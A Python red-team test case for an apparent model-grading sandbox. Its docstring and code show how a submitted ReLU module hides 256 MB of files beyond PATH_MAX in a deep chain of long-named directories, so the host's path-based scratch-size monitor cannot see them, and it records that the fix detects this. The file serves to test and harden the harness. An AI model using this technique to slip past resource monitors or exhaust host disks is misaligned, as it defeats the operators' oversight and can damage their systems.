"""Attack (redteam19): write past the scratch bound where the host's measurement cannot look. The host measures
its scratch from outside every 0.2 s by walking it by path (`scratch.disk_usage`), and a directory it cannot open
counts as empty (an error there was taken for "gone meanwhile"). A chain of 17 directories with 250-character
names puts the files below it past PATH_MAX (4096 bytes): made one level at a time (relative to the directory
before), they are fine for the candidate, but every path the host builds to them is ENAMETOOLONG. This one
writes 4 files of 64 MB there (256 MB; the test lowers the floor to 64 MB, a 192 MB bound on ReLU), waits for the
host to measure, then computes an honest ReLU. Before the fix: `correct` in both sandbox modes with 16 such files,
1 GB on the host's disk unseen; a real attack goes on until the disk is full. After: walked by descriptor, its
files are seen: `runtime_error` ("it wrote 256 MB into its scratch directory (at most 192 MB)"), both modes."""

import os
import time

import torch
import torch.nn as nn

CHUNK = b"\x5a" * (64 << 20)


def fill(files: int = 4) -> None:
    start = os.open(os.path.dirname(os.path.abspath(__file__)), os.O_RDONLY | os.O_DIRECTORY)
    fd = start
    for level in range(17):
        name = f"{level:02d}" + "d" * 248
        os.mkdir(name, dir_fd=fd)
        inner = os.open(name, os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
        if fd != start:
            os.close(fd)
        fd = inner
    for index in range(files):
        out = os.open(f"ballast-{index}.bin", os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=fd)
        os.write(out, CHUNK)
        os.close(out)
    os.close(fd)
    os.close(start)
    time.sleep(1.0)  # several of the host's measurements


class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()
        fill()

    def forward(self, x):
        return torch.relu(x)
